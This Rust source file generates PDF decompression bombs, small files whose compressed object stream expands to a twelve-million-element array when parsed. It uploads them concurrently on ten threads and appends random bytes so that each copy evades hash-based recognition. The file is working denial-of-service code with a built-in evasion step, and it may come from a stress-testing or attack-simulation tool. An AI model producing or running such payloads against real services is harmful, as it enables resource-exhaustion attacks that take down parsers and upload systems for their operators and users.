//! PDFs that are small and become large when they are read.

use super::{super::world::Orders, on_threads, uploads::upload};
use flate2::{Compression, write::ZlibEncoder};
use std::io::Write;
use storage::clock::random;

/// The numbers in the array of a bomb.
const NUMBERS: usize = 12_000_000;

/// Sends bombs.
pub fn send(orders: &Orders) {
    let bomb = array_of_zeros();
    on_threads(10, |_| {
        // Each is another file, so that none is known.
        let mut bytes = bomb.clone();
        bytes.extend(format!("%{:?}\n", random::<16>()).bytes());
        upload(orders, &bytes);
    });
}

/// Returns a PDF with an object stream that holds one long array.
fn array_of_zeros() -> Vec<u8> {
    let mut packed = ZlibEncoder::new(Vec::new(), Compression::best());
    packed.write_all(b"4 0 [").unwrap();
    for _ in 0..NUMBERS / 1_000 {
        packed.write_all("0 ".repeat(1_000).as_bytes()).unwrap();
    }
    packed.write_all(b"]").unwrap();
    let packed = packed.finish().unwrap();
    let mut pdf = b"%PDF-1.5\n".to_vec();
    let mut places = Vec::new();
    let head = format!("<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length {}>>stream\n", packed.len());
    let stream = [head.as_bytes(), &packed, b"\nendstream"].concat();
    let objects: [&[u8]; 3] = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[5 0 R]/Count 1>>", &stream];
    for (number, object) in (1..).zip(objects) {
        places.push(pdf.len());
        pdf.extend(format!("{number} 0 obj\n").bytes());
        pdf.extend(object);
        pdf.extend(b"\nendobj\n");
    }
    let xref = pdf.len();
    pdf.extend(b"xref\n0 4\n0000000000 65535 f \n");
    places.iter().for_each(|place| pdf.extend(format!("{place:010} 00000 n \n").bytes()));
    pdf.extend(format!("trailer\n<</Size 4/Root 1 0 R>>\nstartxref\n{xref}\n%%EOF\n").bytes());
    pdf
}
